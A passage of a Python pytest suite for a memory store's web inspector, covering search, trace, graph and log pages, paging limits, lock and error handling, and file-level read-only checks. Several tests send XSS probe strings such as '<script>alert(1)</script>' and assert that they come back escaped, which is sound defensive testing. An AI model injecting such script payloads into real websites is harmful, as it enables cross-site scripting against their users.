"""The web inspector's server (brainmem.ui) through an HTTP client: every endpoint,
bad input, XSS, read-only safety at the file level, the --write edits, and the
``brainmem ui`` command (bind rules, Ctrl-C)."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import clirun
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytest.importorskip("starlette", reason="the ui extra (starlette) is not installed")
pytest.importorskip("jinja2", reason="the ui extra (jinja2) is not installed")
pytest.importorskip("httpx", reason="httpx (test extra) is not installed")

from conftest import FakeClock  # noqa: E402
from starlette.testclient import TestClient  # noqa: E402
from ui_brain import XSS, build, start_ui  # noqa: E402

import brainmem.ui  # noqa: E402
from brainmem import Brain  # noqa: E402
from brainmem.ui import create_app  # noqa: E402

# slow: a real ASGI app and real server subprocesses
pytestmark = pytest.mark.slow

BASE = "http://127.0.0.1:8765"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str], float]:
    """The brain of tests/ui_brain.py, built once per module (four reflects take a while)."""
    clock = FakeClock()
    path = tmp_path_factory.mktemp("ui") / "brain.db"
    ids = build(str(path), clock)
    return path, ids, clock.now


@pytest.fixture
def clock(source: tuple[Path, dict[str, str], float]) -> FakeClock:
    return FakeClock(source[2])


@pytest.fixture
def built(tmp_path: Path, source: tuple[Path, dict[str, str], float]) -> tuple[Path, dict[str, str]]:
    """A private copy of the built brain (closed cleanly, so one file holds it all)."""
    path = tmp_path / "brain.db"
    shutil.copyfile(source[0], path)
    return path, dict(source[1])


def client(path: Path, clock: Any, *, write: bool = False, token: str | None = None,
           busy_timeout: float = 2.0) -> TestClient:
    brain = Brain(str(path), readonly=not write, clock=clock, busy_timeout=busy_timeout)
    return TestClient(create_app(brain, write=write, token=token), base_url=BASE,
                      raise_server_exceptions=False, follow_redirects=False)


@pytest.fixture
def ro(built: tuple[Path, dict[str, str]], clock: Any) -> TestClient:
    return client(built[0], clock)


@pytest.fixture
def rw(built: tuple[Path, dict[str, str]], clock: Any) -> TestClient:
    return client(built[0], clock, write=True)


def no_trace(text: str) -> None:
    assert "Traceback" not in text and 'File "' not in text


# --- pages ----------------------------------------------------------------------------


def test_overview_shows_counts_check_and_charts(ro: TestClient) -> None:
    r = ro.get("/")
    assert r.status_code == 200
    assert re.search(r'id="live-count">9<', r.text)
    assert 'id="check-status"><b>OK' in r.text
    assert '<svg class="hist"' in r.text and '<svg class="growth"' in r.text
    assert "read-only" in r.text
    data = ro.get("/api/overview").json()
    assert data["stats"]["live"] == 9 and data["check"]["ok"] is True
    assert sum(data["retrievability_histogram"]) == 9
    assert sum(d["added"] for d in data["growth"]) == data["stats"]["live"] + data["stats"]["deleted"]
    assert {"scope": "user", "scope_id": "", "type": "semantic", "count": 1} in data["by_scope"]
    assert ro.get("/api/overview", params={"check": "0"}).json()["check"] is None
    assert "/?check=1" in ro.get("/", params={"check": "0"}).text


def test_overview_bounds_the_by_scope_table(tmp_path: Path, clock: Any,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    # 20,000 scope ids made a 1.6 MB overview page: every (scope, scope id, type) a row.
    # The page and /api/overview now show the largest groups and say how many are not shown.
    from brainmem.ui import views

    monkeypatch.setattr(views, "SCOPE_ROWS", 5)
    path = tmp_path / "many.brain"
    with Brain(str(path), clock=clock) as brain:
        brain.add_many([{"content": f"note {i}", "scope": "user", "scope_id": f"u{i:02d}"}
                        for i in range(12)] + [{"content": "another", "scope": "user", "scope_id": "u07"}])
        assert len(brain.overview()["by_scope"]) == 12  # the Python API still gives them all
        bounded = brain.overview(scope_limit=5)
    assert bounded["by_scope"][0] == {"scope": "user", "scope_id": "u07", "type": "episodic", "count": 2}
    assert len(bounded["by_scope"]) == 5 and bounded["by_scope_total"] == 12
    ui = client(path, clock)
    data = ui.get("/api/overview").json()
    assert len(data["by_scope"]) == 5 and data["by_scope_total"] == 12
    page = ui.get("/").text
    table = page.split('id="by-scope"')[1].split("</table>")[0]
    assert table.count("<tr>") == 1 + 5 and "7 more not shown" in page


def test_overview_growth_days_before_year_1000_and_1970(tmp_path: Path, clock: Any) -> None:
    # a day before year 1000 was written "999-03-01" (strftime drops the zeros), which the
    # growth chart could not read back: the overview page was a 500; and a time before 1970
    # counted on the next day (the day number truncated toward zero)
    path = tmp_path / "old.brain"
    with Brain(str(path), clock=clock) as brain:
        brain.add("a very old note", created_at="0999-03-01T12:00:00Z")
        brain.add("just before the epoch", created_at="1969-12-31T23:00:00Z")
        brain.add("today")
    ui = client(path, clock)
    assert ui.get("/").status_code == 200
    days = [d["day"] for d in ui.get("/api/overview").json()["growth"]]
    assert days[:2] == ["0999-03-01", "1969-12-31"] and len(days) == 3


def test_trace_page_of_a_memory_dated_in_the_last_years_of_the_calendar(tmp_path: Path, clock: Any) -> None:
    # its R(t) curve ran past the year 9999 and the time it reaches the prune threshold
    # was past it too: both were printed as dates, and the page was a server error
    path = tmp_path / "late.brain"
    with Brain(str(path), clock=clock) as brain:
        late = brain.add("a note from the far future", created_at="9999-06-01T00:00:00Z")
        last = brain.add("the last moment", created_at="9999-12-31T23:59:59.999999Z")
    ui = client(path, clock)
    for trace in (late, last):
        assert ui.get(f"/trace/{trace.id}").status_code == 200
        assert ui.get(f"/api/trace/{trace.id}").json()["reaches_threshold_at"] is None


def test_search_with_a_cue_reaching_before_year_1_shows_its_window(ro: TestClient) -> None:
    # "3000 years ago" makes a window starting before the year 1, which has no date to
    # show: the search page and /api/search were a server error
    for query in ("tea 3000 years ago", "tea in the past 2100 years"):
        assert ro.get("/search", params={"q": query}).status_code == 200
        (window,) = ro.get("/api/search", params={"q": query}).json()["windows"]
        assert window["since"] == "0001-01-01T00:00:00Z" and window["since"] <= window["until"]


def test_overview_reports_check_problems(built: Any, clock: Any) -> None:
    import apsw

    path, ids = built
    db = apsw.Connection(str(path))  # an edge to nowhere: check() reports an orphan
    db.execute("INSERT INTO edges(src, dst, kind, weight, updated_at) VALUES (?, 'mt_gone', 'co_activated', 0.5, 0)",
               (ids["cat"],))
    db.close()
    r = client(path, clock).get("/")
    assert 'id="check-status"><b>PROBLEMS' in r.text and "orphan" in r.text.lower()


def test_search_page_draws_a_bar_per_factor(ro: TestClient, built: Any) -> None:
    _, ids = built
    r = ro.get("/search", params={"q": "editor dark mode"})
    assert r.status_code == 200
    assert f'href="/trace/{ids["editor"]}"' in r.text
    for factor in ("bm25", "relevance", "retrievability", "recency", "importance", "activation"):
        assert f'data-factor="{factor}"' in r.text
    data = ro.get("/api/search", params={"q": "editor dark mode", "limit": "3"}).json()
    assert data["results"][0]["id"] == ids["editor"]
    assert len(data["results"]) <= 3
    assert set(data["results"][0]["explain"]) >= {"bm25", "relevance", "retrievability"}


def test_search_json_reuses_the_memory_search_shape(ro: TestClient, built: Any, clock: Any) -> None:
    path, _ = built
    data = ro.get("/api/search", params={"q": "editor"}).json()
    with Brain(str(path), readonly=True, clock=clock) as brain:
        tool = brain.call_tool("memory_search", {"query": "editor"})
    assert set(tool) <= set(data)
    assert [r["id"] for r in data["results"]] == [r["id"] for r in tool["results"]]
    for ours, theirs in zip(data["results"], tool["results"]):
        assert {k: v for k, v in ours.items() if k != "explain"} == theirs


def test_search_ranks_as_the_agent_does_with_its_embedder_and_reranker(built: Any, clock: Any) -> None:
    """The inspector opened with the agent's embedder and reranker shows what they did:
    the meaning factors, the reranker's score, and why a search fell back."""
    path, ids = built

    def embed(texts: list[str]) -> list[list[float]]:  # a crude "meaning": which letters occur
        return [[float(c in t.lower()) for c in "aeioustrnl"] + [1.0] for t in texts]

    def prefer_short(query: str, texts: list[str]) -> list[float]:
        return [-len(t) for t in texts]

    with Brain(str(path), clock=clock, embedder=embed) as writer:
        writer.embed()
    for write in (False, True):
        brain = Brain(str(path), readonly=not write, clock=clock, embedder=embed, reranker=prefer_short)
        ui = TestClient(create_app(brain, write=write), base_url=BASE, raise_server_exceptions=False)
        data = ui.get("/api/search", params={"q": "editor dark mode"}).json()
        assert data["results"] and "degraded" not in data
        first = data["results"][0]
        assert {"vector", "vector_share"} <= set(first["explain"]) and "rerank" in first
        ranked = [r["rerank"] for r in data["results"] if "rerank" in r]
        assert ranked == sorted(ranked, reverse=True)  # the reranker's order on top
        page = ui.get("/search", params={"q": "editor dark mode"}).text
        assert 'data-factor="vector_share"' in page and "rerank " in page
    broken = Brain(str(path), readonly=True, clock=clock, reranker=lambda q, t: 1 / 0)
    ui = TestClient(create_app(broken), base_url=BASE, raise_server_exceptions=False)
    data = ui.get("/api/search", params={"q": "editor"}).json()  # three traces name the editor
    assert ids["editor"] in [r["id"] for r in data["results"]] and "not re-ranked" in data["degraded"]
    assert 'id="degraded"' in ui.get("/search", params={"q": "editor"}).text


def test_search_filters_and_temporal_window(ro: TestClient, built: Any) -> None:
    _, ids = built
    data = ro.get("/api/search", params={"q": "editor", "type": "semantic"}).json()
    assert data["results"] and all(r["type"] == "semantic" for r in data["results"])
    assert ro.get("/api/search", params={"q": "editor", "tag": "nothing-like-it"}).json()["results"] == []
    r = ro.get("/search", params={"q": "what did I do yesterday"})
    assert r.status_code == 200 and 'id="windows"' in r.text
    window = ro.get("/api/search", params={"q": "what did I do yesterday"}).json()["windows"]
    assert len(window) == 1 and window[0]["since"] < window[0]["until"]


def test_search_without_words_browses_the_traces(ro: TestClient, built: Any, clock: Any) -> None:
    path, ids = built
    r = ro.get("/search")
    assert r.status_code == 200 and f'href="/trace/{ids["editor"]}"' in r.text
    data = ro.get("/api/search", params={"limit": "4"}).json()
    with Brain(str(path), readonly=True, clock=clock) as brain:
        tool = brain.call_tool("memory_list", {"limit": 4}, extra="all")
    assert data["items"] == tool["items"] and data["truncated"] is True
    page2 = ro.get("/api/search", params={"limit": "4", "offset": "4"}).json()["items"]
    assert not {i["id"] for i in page2} & {i["id"] for i in data["items"]}
    assert 'id="older"' in ro.get("/search", params={"limit": "4"}).text
    semantic = ro.get("/search", params={"type": "semantic"})
    assert ids["insight"] in semantic.text and ids["editor"] not in semantic.text
    assert ro.get("/search", params={"offset": "-1"}).status_code == 400


def test_search_with_words_pages_by_offset(ro: TestClient) -> None:
    whole = ro.get("/api/search", params={"q": "editor dark mode", "limit": "4"}).json()["results"]
    assert len(whole) >= 3
    page2 = ro.get("/api/search", params={"q": "editor dark mode", "limit": "2", "offset": "2"}).json()
    assert page2["offset"] == 2 and [r["id"] for r in page2["results"]] == [r["id"] for r in whole[2:4]]
    r = ro.get("/api/search", params={"q": "editor", "limit": "100", "offset": "950"})
    assert r.status_code == 400 and "1000" in r.json()["error"]["message"]


def test_the_search_page_links_its_next_and_previous_hits(ro: TestClient) -> None:
    import html

    whole = ro.get("/api/search", params={"q": "editor dark mode", "limit": "4"}).json()["results"]
    first = ro.get("/search", params={"q": "editor dark mode", "limit": "2"}).text
    assert 'id="previous"' not in first
    link = re.search(r'href="([^"]*)" id="next"', first)
    assert link is not None
    second = ro.get(html.unescape(link.group(1)).removeprefix(BASE)).text
    assert re.findall(r'class="trace-link">([^<]*)<', second) == [r["id"] for r in whole[2:4]]
    assert '<ol class="hits" id="hits" start="3">' in second  # ranks 3 and 4, not 1 and 2
    back = re.search(r'href="([^"]*)" id="previous"', second)
    assert back is not None and "offset=0" in html.unescape(back.group(1))
    last = ro.get("/search", params={"q": "editor", "limit": "100", "offset": "900"}).text
    assert 'id="next"' not in last  # a search reaches its best 1000


def test_search_is_a_pure_read_even_in_write_mode(rw: TestClient, built: Any) -> None:
    path, _ = built
    before = Brain(str(path), readonly=True).stats()["retrievals"]
    assert rw.get("/api/search", params={"q": "editor"}).status_code == 200
    assert Brain(str(path), readonly=True).stats()["retrievals"] == before


def test_trace_page_fields_lineage_curve_recalls(ro: TestClient, built: Any) -> None:
    _, ids = built
    r = ro.get(f"/trace/{ids['editor']}")
    assert r.status_code == 200
    assert "dark mode in the code editor" in r.text
    assert '<svg class="curve"' in r.text and "prune threshold" in r.text
    assert 'id="prune-at"' in r.text
    assert r.text.count("<td>editor</td>") == 3  # three recorded searches returned it
    data = ro.get(f"/api/trace/{ids['editor']}").json()
    assert data["trace"]["id"] == ids["editor"] and "retrievability" in data["trace"]
    assert len(data["recalls"]) == 3 and all(x["used"] is True for x in data["recalls"])
    assert [b["id"] for b in data["lineage"]["derived_into"]] == [ids["insight"]]
    merged = ro.get(f"/api/trace/{ids['merged']}").json()["lineage"]
    assert ids["merge_source"] in [b["id"] for b in merged["merged_from"]]
    source = ro.get(f"/api/trace/{ids['merge_source']}").json()
    assert source["trace"]["deleted_at"] is not None
    assert source["lineage"]["merged_into"][0]["id"] == ids["merged"]
    edited = ro.get(f"/api/trace/{ids['old']}").json()["lineage"]["versions"]
    assert edited[0]["title"] == "The user lives in Berlin" and edited[0]["deleted"] is True
    insight = ro.get(f"/trace/{ids['insight']}")
    assert f'href="/trace/{ids["editor"]}"' in insight.text  # derived from, linked


def test_a_trace_page_shows_the_newest_of_a_long_lineage(tmp_path: Path, clock: Any,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """A trace's page listed every earlier version and supersedes edge of it: 6.6 MB of
    HTML for a key put 17,000 times. It now shows the newest LINEAGE_ITEMS of each, with
    how many there are."""
    from brainmem.ui import views

    monkeypatch.setattr(views, "LINEAGE_ITEMS", 5)
    path = tmp_path / "brain.db"
    with Brain(str(path), clock=clock) as brain:
        for i in range(12):
            key = brain.put("status", f"build number {i} is green")
            clock.advance(60)
        lineage = brain.lineage(key.id, limit=5)
        assert [b["title"] for b in lineage["versions"]] == [f"build number {i} is green" for i in range(6, 11)]
        assert lineage["totals"]["versions"] == 11 and lineage["totals"]["supersedes"] == 11
        assert len(lineage["supersedes"]) == 5 and lineage["totals"]["merged_from"] == 0
    ui = client(path, clock)
    data = ui.get(f"/api/trace/{key.id}").json()["lineage"]
    assert len(data["versions"]) == 5 and data["totals"]["versions"] == 11
    page = ui.get(f"/trace/{key.id}").text
    assert page.count("build number") < 15 and "the newest 5 of 11; 6 older not shown" in page


def test_a_trace_page_says_when_it_shows_only_the_newest_recalls(tmp_path: Path, clock: Any,
                                                               monkeypatch: Any) -> None:
    from brainmem.ui import views

    monkeypatch.setattr(views, "RECALLS_SHOWN", 3)
    path = tmp_path / "b.db"
    with Brain(str(path), clock=clock) as brain:
        tid = brain.add("The user's favourite tea is sencha").id
        for query in ("tea", "sencha", "favourite tea", "tea sencha"):
            brain.search(query)
            clock.advance(60)
    ui = client(path, clock)
    data = ui.get(f"/api/trace/{tid}").json()
    assert [r["query"] for r in data["recalls"]] == ["tea sencha", "favourite tea", "sencha"]
    assert data["recalls_more"] is True
    assert 'id="recalls-more"' in ui.get(f"/trace/{tid}").text


def test_graph_page_shows_weighted_edges_and_clusters(ro: TestClient, built: Any) -> None:
    _, ids = built
    r = ro.get("/graph", params={"id": ids["editor"]})
    assert r.status_code == 200
    assert '<svg class="graph"' in r.text and f'data-id="{ids["font"]}"' in r.text
    assert re.search(r'data-kind="co_activated" data-weight="0\.\d+"', r.text)
    data = ro.get("/api/graph", params={"id": ids["editor"], "depth": "1"}).json()
    assert {ids["font"], ids["keys"], ids["insight"]} <= {n["id"] for n in data["nodes"]}
    assert all(0 < e["weight"] <= 1 for e in data["edges"])
    assert data["clusters"] and sorted(data["clusters"][0]["members"]) == sorted(
        [ids["editor"], ids["font"], ids["keys"]])
    r = ro.get("/graph", params={"cluster": "0"})
    assert r.status_code == 200 and "a cluster of 3" in r.text
    assert "cluster 0" in ro.get("/graph").text


def test_graph_page_lists_clusters_of_a_large_graph_only_when_asked(
        built: Any, clock: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Louvain on a large graph takes minutes (27 s at 200,000 random co-activation
    edges): above views.CLUSTERS_AUTO_EDGES edges derive would cluster, the graph page
    says so and lists the clusters only when asked (as the overview's check())."""
    from brainmem.ui import views

    monkeypatch.setattr(views, "CLUSTERS_AUTO_EDGES", 1)
    ui = client(built[0], clock)
    asked: list[int] = []
    brain = ui.app.state.ui.brain
    real = brain.clusters
    monkeypatch.setattr(brain, "clusters", lambda: asked.append(1) or real())
    r = ui.get("/graph")
    assert r.status_code == 200 and not asked and "cluster 0" not in r.text
    assert 'href="/graph?clusters=1"' in r.text and "only when asked" in r.text
    assert ui.get("/api/graph").json()["clusters"] is None and not asked
    r = ui.get("/graph", params={"clusters": "1"})
    assert "cluster 0" in r.text and asked
    assert "a cluster of 3" in ui.get("/graph", params={"cluster": "0"}).text
    assert ui.get("/api/graph", params={"clusters": "1"}).json()["clusters"][0]["size"] == 3
    monkeypatch.setattr(views, "CLUSTERS_AUTO_EDGES", 1_000)
    assert "cluster 0" in ui.get("/graph").text


def test_graph_page_opens_every_cluster_it_lists(built: Any, clock: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The graph page links every cluster derive would use, but cluster numbers above
    10,000 were refused ("cluster must be between 0 and 10000"): a graph of 450,000
    co-activation edges has more clusters than that."""
    _, ids = built
    ui = client(built[0], clock)
    brain = ui.app.state.ui.brain
    many = [[ids["editor"], ids["font"], ids["keys"]]] * 10_002
    monkeypatch.setattr(brain, "clusters", lambda: many)
    assert 'href="/graph?cluster=10001"' in ui.get("/graph").text
    r = ui.get("/graph", params={"cluster": "10001"})
    assert r.status_code == 200 and "a cluster of 3" in r.text
    assert ui.get("/graph", params={"cluster": "10002"}).status_code == 404


def test_log_pages_link_runs_to_traces(ro: TestClient, built: Any) -> None:
    _, ids = built
    r = ro.get("/log")
    assert r.status_code == 200 and r.text.count('href="/log/') == 4
    runs = ro.get("/api/log").json()["runs"]
    assert len(runs) == 4 and all("prune" in run["step_ms"] for run in runs)
    deriving = [run for run in runs if run["derived"]]
    assert deriving
    page = ro.get(f"/log/{deriving[0]['id']}")
    assert page.status_code == 200 and f'href="/trace/{ids["insight"]}"' in page.text
    changes = ro.get(f"/api/log/{deriving[0]['id']}").json()["changes"]
    assert ids["insight"] in [d["id"] for d in changes["derived"]]
    latest = ro.get(f"/api/log/{runs[1]['id']}").json()["changes"]  # the third run, before the merge
    assert latest["strengthened"] and all(0 < e["weight"] <= 1 for e in latest["strengthened"])
    assert {ids["editor"], ids["font"]} <= {x for e in latest["strengthened"] for x in (e["src"], e["dst"])}


def test_the_log_pages_through_runs_past_its_first_page(ro: TestClient, monkeypatch: Any) -> None:
    """An agent reflecting hourly passes a page of runs in days: the older ones stay listed."""
    import html

    from brainmem.ui import views

    monkeypatch.setattr(views, "LOG_LIMIT", 3)
    first = ro.get("/log").text
    assert re.findall(r'href="/log/(\d+)"', first) == ["4", "3", "2"] and 'id="newer"' not in first
    older = re.search(r'href="([^"]*)" id="older"', first)
    assert older is not None
    second = ro.get(html.unescape(older.group(1)).removeprefix(BASE)).text
    assert re.findall(r'href="/log/(\d+)"', second) == ["1"] and 'id="older"' not in second
    assert 'id="newer"' in second
    data = ro.get("/api/log", params={"offset": "3"}).json()
    assert [run["id"] for run in data["runs"]] == [1] and data["truncated"] is False
    assert ro.get("/api/log").json()["truncated"] is True
    assert ro.get("/api/log", params={"offset": "-1"}).status_code == 400


def test_a_run_page_shows_a_page_of_each_change_and_finds_any_run(tmp_path: Path, clock: Any,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A reflect run's page listed every trace it merged, pruned and changed and the
    whole report with both texts of every merge (52 MB of HTML, 7 s, for a run that
    merged 50,000 traces), and looked for the run among the newest 10,000 read whole
    (an older run was "not found"). It now shows RUN_ITEMS of each, with the totals."""
    from brainmem.ui import views

    monkeypatch.setattr(views, "RUN_ITEMS", 5)
    path = tmp_path / "brain.db"
    with Brain(str(path), clock=clock) as brain:
        brain.add_many([item for i in range(12) for item in (
            {"content": f"twin note {i}", "pinned": True}, f"twin note {i} thanks", f"forgettable {i}")])
        brain.reflect()  # run 1: 12 merges into the pinned twins
        brain.reflect(clock.now + 100 * 365 * 86400)  # run 2: the 12 forgettable ones pruned
        with brain._store.write():  # 10,000 later runs: hourly for 14 months
            for _ in range(10_000):
                brain._store.log_consolidation(clock.now, clock.now, clock.now, "ok", {"pruned": 0})
    ui = client(path, clock)
    merged = ui.get("/api/log/1").json()
    assert len(merged["changes"]["merged"]) == 5 and merged["totals"]["merged"] == 12
    assert len(merged["changes"]["changed"]) == 5 and merged["totals"]["changed"] == 12
    assert len(merged["run"]["report"]["merges"]) == 5 and merged["run"]["report"]["merges_total"] == 12
    pruned = ui.get("/api/log/2").json()
    assert len(pruned["changes"]["pruned"]) == 5 and pruned["totals"]["pruned"] == 12
    page = ui.get("/log/1")
    assert page.status_code == 200 and "and 7 more" in page.text and page.text.count("twin note") < 40


def test_the_log_lists_runs_without_their_merged_texts(tmp_path: Path, clock: Any) -> None:
    """/log and /api/log read and sent the report of each of the last 200 runs whole,
    both texts of every merge included: 25 MB for four runs after a reflect that merged
    50,000 traces. The list now carries each report without its merges (a run's own
    page has them)."""
    path = tmp_path / "brain.db"
    with Brain(str(path), clock=clock) as brain:
        brain.add_many([text for i in range(30) for text in (f"twin note {i}", f"twin note {i} thanks")])
        brain.reflect()
        assert len(brain.reflect_log()[0]["report"]["merges"]) == 30  # the log keeps them
        (listed,) = brain.reflect_log(merges=False)
        assert "merges" not in listed["report"] and listed["report"]["merged"] == 30
    ui = client(path, clock)
    (run,) = ui.get("/api/log").json()["runs"]
    assert run["merged"] == 30 and "merges" not in run["report"]
    assert "twin note" not in ui.get("/api/log").text
    assert len(ui.get("/api/log/1").json()["run"]["report"]["merges"]) == 30


ODD_ID = "notes/2026 #1?a=b&c=d é"


def import_with_id(path: Path, trace_id: str, content: str, tmp_path: Path) -> None:
    """A trace whose id is ``trace_id``, as an import from another system may bring (ids are
    kept on import, any text)."""
    import json

    source, dump = tmp_path / "source.db", tmp_path / "dump.jsonl"
    with Brain(str(source)) as other:
        other.add(content, tags=["imported"])
        other.export(str(dump))
    lines = [json.loads(line) for line in dump.read_text().splitlines()]
    for line in lines:
        if "trace" in line:
            line["trace"]["id"] = trace_id
    dump.write_text("".join(json.dumps(line) + "\n" for line in lines))
    with Brain(str(path)) as brain:
        assert brain.import_jsonl(str(dump)).imported == 1


def crawl(ui: TestClient, start: list[str], limit: int = 400) -> dict[str, int]:
    """The status of every inspector link reachable from ``start`` (hrefs as a browser
    resolves them: entities decoded, a fragment cut off)."""
    import html

    seen: dict[str, int] = {}
    todo = list(start)
    while todo and len(seen) < limit:
        url = todo.pop()
        if url in seen:
            continue
        r = ui.get(url)
        seen[url] = r.status_code
        if "text/html" not in r.headers.get("content-type", ""):
            continue
        for href in re.findall(r'href="([^"]*)"', r.text):
            link = html.unescape(href).split("#", 1)[0]
            if link.startswith(BASE):
                link = link[len(BASE):]
            if link.startswith("/") and not link.startswith("//") and link not in seen:
                todo.append(link)
    return seen


def test_every_link_works_even_for_an_id_with_url_characters(built: Any, clock: Any, tmp_path: Path) -> None:
    path, ids = built
    import_with_id(path, ODD_ID, "an imported note about zebras", tmp_path)
    ui = client(path, clock, write=True)
    seen = crawl(ui, ["/", "/search?q=zebras", "/search?tag=imported", "/search?q=editor&limit=3"])
    broken = {url: status for url, status in seen.items() if status != 200}
    assert not broken
    trace_pages = [url for url in seen if url.startswith("/trace/")]
    assert len(trace_pages) >= len(ids)
    odd = [url for url in trace_pages if "zebras" in ui.get(url).text]
    assert len(odd) == 1
    assert ui.get("/api" + odd[0]).json()["trace"]["id"] == ODD_ID
    r = ui.post(odd[0] + "/pin")
    assert r.status_code == 303 and ui.get(r.headers["location"]).status_code == 200
    assert ui.get("/api" + odd[0]).json()["trace"]["pinned"] is True
    assert ui.get(f"/graph?id={quote_all(ODD_ID)}").status_code == 200


def quote_all(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")


def test_static_assets_are_served(ro: TestClient) -> None:
    assert ro.get("/static/style.css").status_code == 200
    assert "fetch(" in ro.get("/static/reflect.js").text


# --- bad input, errors and XSS ---------------------------------------------------------


@pytest.mark.parametrize(("url", "status"), [
    ("/trace/mt_no-such-trace", 404),
    ("/api/trace/mt_no-such-trace", 404),
    ("/graph?id=mt_no-such-trace", 404),
    ("/graph?cluster=99", 404),
    ("/log/999", 404),
    ("/api/log/999", 404),
    ("/no/such/page", 404),
    ("/search?q=x&limit=abc", 400),
    ("/search?q=x&limit=100000", 400),
    ("/search?q=x&type=dream", 400),
    ("/api/search?q=x&scope=galaxy", 400),
    ("/search?q=x&since=not-a-date", 400),
    ("/graph?depth=-1&id=x", 400),
    ("/search?q=" + "a" * 5000, 414),
    ("/api/search?q=" + "a" * 5000, 414),
    ("/search?x=" + "b" * 9000, 414),
])
def test_bad_requests_get_a_readable_error(ro: TestClient, url: str, status: int) -> None:
    r = ro.get(url)
    assert r.status_code == status
    no_trace(r.text)
    if url.startswith("/api/"):
        assert r.json()["error"]["message"]
    else:
        assert 'id="error-message"' in r.text and "<!doctype html>" in r.text
        assert 'id="flash"' not in r.text


def test_fts_syntax_and_odd_encodings_never_crash(ro: TestClient) -> None:
    for q in ['"unbalanced', "AND OR NOT", "NEAR(", "%FF%FE", "*", "\x00", "😀" * 50]:
        r = ro.get("/search", params={"q": q})
        assert r.status_code in (200, 400), (q, r.status_code)
        no_trace(r.text)
    r = ro.get("/search?q=%FF%FE%ZZ")
    assert r.status_code in (200, 400)


PARAMS = st.dictionaries(
    st.sampled_from(["q", "limit", "type", "scope", "scope_id", "tag", "episode", "since", "until",
                     "id", "depth", "cluster"]),
    st.one_of(st.text(max_size=60), st.sampled_from(["10", "0", "-1", "editor", "semantic", "user",
                                                     "2026-01-01", "yesterday", '"', "*"])),
    max_size=6,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(params=PARAMS, page=st.sampled_from(["/search", "/api/search", "/graph", "/api/graph"]))
def test_any_query_string_gets_a_page_or_a_readable_error(ro: TestClient, params: dict[str, str],
                                                          page: str) -> None:
    r = ro.get(page, params=params)
    assert r.status_code in (200, 400, 404, 414), (page, params, r.status_code)
    no_trace(r.text)
    if r.status_code != 200 and page.startswith("/api/"):
        assert r.json()["error"]["message"]


def test_content_is_escaped_everywhere(ro: TestClient, built: Any) -> None:
    _, ids = built
    pages = [ro.get(f"/trace/{ids['xss']}"), ro.get("/search", params={"q": "notes bold friends"}),
             ro.get("/graph", params={"id": ids["xss"]}), ro.get("/trace/<script>alert(1)</script>"),
             ro.get("/search", params={"q": "<script>alert(1)</script>"})]
    for r in pages:
        assert "<script>alert" not in r.text
        assert "<b>bold</b>" not in r.text
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in pages[0].text
    assert "&lt;script&gt;alert" in pages[1].text
    assert ro.get(f"/api/trace/{ids['xss']}").json()["trace"]["content"] == XSS


def test_brain_locked_by_a_writer_is_503_not_a_hang(built: Any, clock: Any) -> None:
    import apsw

    path, ids = built
    ui = client(path, clock, write=True, busy_timeout=0.05)
    holder = apsw.Connection(str(path))
    holder.execute("BEGIN IMMEDIATE")
    holder.execute("UPDATE meta SET value = value")
    try:
        assert ui.get("/").status_code == 200  # WAL: pages read while another process writes
        started = time.monotonic()
        r = ui.post(f"/trace/{ids['cat']}/pin")
        assert r.status_code == 503 and "locked" in r.text and r.headers["retry-after"]
        no_trace(r.text)
        r = ui.post(f"/api/trace/{ids['cat']}/pin")
        assert r.status_code == 503 and "locked" in r.json()["error"]["message"]
        assert time.monotonic() - started < 10
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert ui.post(f"/trace/{ids['cat']}/pin").status_code == 303


def test_cli_reports_a_brain_held_exclusively(built: Any) -> None:
    import apsw
    import uvicorn

    path, _ = built
    holder = apsw.Connection(str(path))
    holder.execute("PRAGMA locking_mode=EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    holder.execute("UPDATE meta SET value = value")
    def served(self: Any, sockets: Any = None) -> None:
        raise AssertionError("the command went on to serve")

    try:  # in this process, waiting 0.2 s for the lock instead of 2 s (a subprocess waited
        # its start-up and the whole busy timeout); serving instead of refusing fails at once
        with pytest.MonkeyPatch.context() as patch:
            patch.setitem(brainmem.ui.serve.__kwdefaults__, "busy_timeout", 0.2)
            patch.setattr(uvicorn.Server, "run", served)
            r = clirun.run("ui", "--brain", str(path), "--port", "0")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert r.returncode == 1 and "locked" in r.stderr and "Traceback" not in r.stderr


def test_an_unexpected_failure_is_a_plain_500_page(ro: TestClient, caplog: Any) -> None:
    def broken() -> None:
        raise RuntimeError("secret internals /etc/passwd")

    ro.app.state.ui.brain.stats = broken
    for url in ("/", "/api/overview"):
        r = ro.get(url)
        assert r.status_code == 500
        assert "secret internals" not in r.text
        no_trace(r.text)
    assert "went wrong" in r.json()["error"]["message"]
    assert "secret internals" in caplog.text  # the operator still sees it in the log


def test_brain_file_that_disappears_is_503(built: Any, clock: Any) -> None:
    path, _ = built
    ui = client(path, clock)
    assert ui.get("/").status_code == 200
    os.rename(path, path.with_suffix(".moved"))
    r = ui.get("/")
    assert r.status_code == 503 and "is gone" in r.text
    assert "is gone" in ui.get("/api/overview").json()["error"]["message"]
    Brain(str(path)).close()  # another brain put in its place: still not the one it shows
    assert ui.get("/api/overview").status_code == 503


# --- read-only safety -------------------------------------------------------------------


def test_read_only_session_leaves_the_file_bytes_unchanged(built: Any, clock: Any) -> None:
    path, ids = built
    before = digest(path)
    wal = path.with_name(path.name + "-wal")
    wal_before = digest(wal) if wal.exists() else None
    ui = client(path, clock)
    for url in ["/", "/api/overview", "/search?q=editor", "/api/search?q=editor+yesterday",
                f"/trace/{ids['editor']}", f"/api/trace/{ids['xss']}", f"/graph?id={ids['editor']}",
